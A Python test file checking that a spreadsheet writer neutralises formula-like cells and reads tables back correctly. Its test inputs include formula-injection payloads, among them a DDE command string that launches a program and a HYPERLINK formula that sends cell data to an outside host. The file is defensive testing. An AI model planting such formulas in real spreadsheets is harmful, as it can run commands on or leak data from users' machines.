"""Tables for a spreadsheet: no cell is a formula, what is written is read back, what is broken is a sentence."""

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ground.shown import JOINERS
from qa.sheet import LONGEST_CELL, SheetError, Table, harmless, read_workbook, shown_in_cell, write_table

FORMULAS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠A1", '"=1', "'=1"),
    *("\u200b=1", "\ufeff=1", "\x00=1", "\u202e=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://e.org?"&A1,"x")'),
)
BEGINS = "=+-@＝＋－＠"


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    assert harmless(text).startswith("'")
    [row] = csv.reader(io.StringIO("".join(Table([[text, f"a,{text}"]]).lines()), newline=""))
    assert row[0].startswith("'") and len(row) == 2


@given(st.text(max_size=40))
@example("a\r\nb")
def test_no_text_whatever_is_a_formula_or_steers(text: str) -> None:
    cell = harmless(text)
    assert cell.lstrip(" \n'\"")[:1] not in tuple(BEGINS) or cell.startswith("'")
    assert all(c.isprintable() or c in f"\n{JOINERS}" for c in cell)
    [row] = csv.reader(io.StringIO("".join(Table([["x", text]]).lines()), newline=""))
    assert row == ["x", cell]


def test_a_text_that_is_none_stays_as_it_is() -> None:
    for text in ("Ten died.", "[1] 336:435", "a = b", "Fünf\nZeilen", "دانش\u200cآموز"):
        assert harmless(text) == text == shown_in_cell(text)


@pytest.mark.parametrize("kind", [".csv", ".tsv", ".xlsx"])
def test_what_is_written_is_read_back(tmp_path: Path, kind: str) -> None:
    file = tmp_path / f"table{kind}"
    rows = [["question", "score"], ["Wer, “was”;\nund wo\t?", 0.5], ["=1+1", None], ["#N/A", 1]]
    assert write_table(file, rows) == 0
    assert [path.name for path in tmp_path.iterdir()] == [file.name]
    if kind == ".xlsx":
        [sheet] = read_workbook(file, "table.xlsx").values()
        read = [cells for _, cells in sheet]
        assert read == [["question", "score"], ["Wer, “was”;\nund wo ?", "0.5"], ["=1+1"], ["#N/A", "1"]]
        return
    assert file.read_bytes().startswith("\ufeffquestion".encode())
    with file.open(encoding="utf-8-sig", newline="") as text:
        read = list(csv.reader(text, delimiter="\t" if kind == ".tsv" else ","))
    assert read == [["question", "score"], ["Wer, “was”;\nund wo ?", "0.5"], ["'=1+1", ""], ["#N/A", "1"]]


def test_in_a_workbook_every_text_is_text_and_stays_so_when_it_is_edited(tmp_path: Path) -> None:
    file = tmp_path / "table.xlsx"
    write_table(file, [["answer"], *([text] for text in FORMULAS), ["#N/A"], ["plain"]])
    sheet = openpyxl.load_workbook(file).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells] == [True] * len(FORMULAS) + [False, False]


def test_a_cell_too_long_is_cut_and_counted(tmp_path: Path) -> None:
    assert write_table(tmp_path / "a.csv", [["x" * LONGEST_CELL, "y"], ["x" * (LONGEST_CELL - 1), None]]) == 1
    first, second = (tmp_path / "a.csv").read_text("utf-8-sig").splitlines()
    assert len(first) == LONGEST_CELL - 1 + len(",y") and first.endswith("x…,y")
    assert second == "x" * (LONGEST_CELL - 1) + ","


def test_a_table_that_cannot_be_written_leaves_the_old_one(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    file.write_text("old")

    def rows():  # type: ignore[no-untyped-def]
        yield ["question"]
        raise OSError("the disk is full")

    with pytest.raises(OSError, match="the disk is full"):
        write_table(file, rows())
    assert file.read_text() == "old" and len(list(tmp_path.iterdir())) == 1


def test_what_is_no_workbook_is_a_sentence(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    file.write_bytes(b"\xd0\xcf\x11\xe0 an old or a locked one")
    with pytest.raises(SheetError, match=r"^a\.xlsx: is no Excel workbook \(\.xlsx\), or has a password; save it as"):
        read_workbook(file, "a.xlsx")
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("[Content_Types].xml", "<nothing")
    with pytest.raises(SheetError, match="cannot be read as an Excel workbook"):
        read_workbook(file, "a.xlsx")


def test_a_workbook_that_unpacks_to_much_or_is_mostly_empty_costs_little(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    far = openpyxl.Workbook()
    assert far.active is not None
    far.active["A1"], far.active["XFD1048576"] = "question", "far away"
    far.save(tmp_path / "far.xlsx")
    monkeypatch.setattr("qa.sheet.MOST_ROWS", 50)
    [sheet] = read_workbook(tmp_path / "far.xlsx", "far.xlsx").values()
    assert next(sheet) == (1, ["question"])
    with pytest.raises(SheetError, match="has more than 50 rows"):
        next(sheet)
    monkeypatch.setattr("qa.sheet.MOST_BYTES", 100)
    with pytest.raises(SheetError, match="unpacks to"):
        read_workbook(tmp_path / "far.xlsx", "far.xlsx")
